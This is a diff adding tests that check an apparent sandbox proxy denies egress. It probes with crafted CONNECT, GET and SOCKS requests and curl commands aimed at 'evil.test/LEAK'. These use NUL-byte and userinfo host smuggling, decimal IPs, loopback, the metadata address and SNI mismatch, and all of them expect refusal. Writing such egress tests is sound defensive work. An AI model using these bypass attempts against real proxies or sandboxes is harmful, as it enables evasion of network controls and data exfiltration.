@@ -647,6 +647,66 @@ shell(
 )
 shell("curl-unset-proxies", f"env -i curl -sS -m 20 http://{OTHER}/LEAK; echo status $?", "status 7")
 
+# -- the proxy of the sandbox itself -----------------------------------------------------------------------------------
+for title, raw, says in (
+    ("connect-denied", "CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\nLEAK", "403"),
+    ("connect-port", "CONNECT good.test:22 HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\nLEAK", "403"),
+    ("connect-nul", "CONNECT evil.test\\0.good.test:443 HTTP/1.1\\r\\n\\r\\nLEAK", "400"),
+    ("connect-userinfo", "CONNECT good.test@evil.test:443 HTTP/1.1\\r\\n\\r\\nLEAK", "400"),
+    ("connect-literal", f"CONNECT {OTHER}:443 HTTP/1.1\\r\\n\\r\\nLEAK", "403"),
+    ("connect-decimal", "CONNECT 1572395043:443 HTTP/1.1\\r\\n\\r\\nLEAK", "400"),
+    ("connect-loopback", "CONNECT 127.0.0.1:22 HTTP/1.1\\r\\n\\r\\nLEAK", "403"),
+    ("connect-mapped", "CONNECT [::ffff:10.1.2.3]:80 HTTP/1.1\\r\\n\\r\\nLEAK", "403"),
+    ("connect-private-name", "CONNECT private.test:443 HTTP/1.1\\r\\n\\r\\nLEAK", "403"),
+    ("connect-not-tls", "CONNECT good.test:443 HTTP/1.1\\r\\n\\r\\nLEAK and more of it", "x15"),
+    ("connect-tcp", "CONNECT other.test:7000 HTTP/1.1\\r\\n\\r\\nfine", "200 [^$]*fine"),
+    ("get-denied", "GET http://evil.test/LEAK HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", "403"),
+    ("get-two-hosts", "GET http://good.test/LEAK HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", "400"),
+    ("get-second", "GET http://good.test/a HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\nGET http://evil.test/LEAK HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", "200"),
+    ("get-tls-port", "GET http://good.test:443/LEAK HTTP/1.1\\r\\nHost: good.test:443\\r\\n\\r\\n", "403"),
+    ("get-relative", "GET /LEAK HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n", "400"),
+):  # fmt: skip
+    python(f"proxy-{title}", f"http(b'{raw}', '198.18.0.3', 3128)", says)
+for title, raw, says in (
+    ("denied", "\\3\\x09evil.test\\1\\xbb", "x05.x02"),
+    ("nul", "\\3\\x13evil.test\\0.good.test\\1\\xbb", "x05.x02"),
+    ("literal", "\\1\\x5d\\xb8\\xd8\\x23\\1\\xbb", "x05.x02"),
+    ("loopback", "\\1\\x7f\\0\\0\\1\\0\\x16", "x05.x02"),
+    ("private-name", "\\3\\x0cprivate.test\\1\\xbb", "x05.x02"),
+    ("metadata-text", "\\3\\x0f169.254.169.254\\0P", "x05.x02"),
+    ("decimal-text", "\\3\\x0a2852039166\\0P", "x05.x02"),
+    ("tcp", "\\3\\x0aother.test\\x1b\\x58", "fine"),
+):  # fmt: skip
+    python(f"socks-{title}", f"tcp('198.18.0.3', 1080, b'\\5\\1\\0\\5\\1\\0{raw}' + b'fine')", says)
+python(
+    "socks-udp-associate",
+    "tcp('198.18.0.3', 1080, b'\\5\\1\\0\\5\\3\\0\\1\\0\\0\\0\\0\\0\\0')",
+    "x05.x02|failed",
+)
+python("socks-bind", "tcp('198.18.0.3', 1080, b'\\5\\1\\0\\5\\2\\0\\1\\0\\0\\0\\0\\0\\x50')", "x05.x02")
+python("socks-4", "tcp('198.18.0.3', 1080, b'\\4\\1\\1\\xbb\\0\\0\\0\\1x\\0evil.test\\0')", "got b''|failed")
+shell(
+    "proxy-curl",
+    "curl -sS -m 20 -x http://198.18.0.3:3128 http://good.test/a http://good.test/b",
+    "served /a[^$]*served /b",
+)
+shell("proxy-curl-tls", "curl -sSk -m 20 -x http://198.18.0.3:3128 https://good.test/", "secure")
+shell(
+    "proxy-curl-socks",
+    "curl -sSk -m 20 -x socks5h://198.18.0.3:1080 https://good.test/ http://good.test/c",
+    "secure[^$]*served /c",
+)
+shell(
+    "proxy-curl-denied",
+    "curl -sSk -m 20 -x http://198.18.0.3:3128 https://evil.test/LEAK; echo status $?",
+    "status [1-9]",
+)
+shell(
+    "proxy-curl-sni",
+    "curl -sSk -m 20 -x http://198.18.0.3:3128 --connect-to evil.test:443:good.test:443 https://evil.test/LEAK; echo status $?",
+    "status [1-9]",
+)
+
 # -- other clients ---------------------------------------------------------------------------------------------------
 node(
     "node-literal",
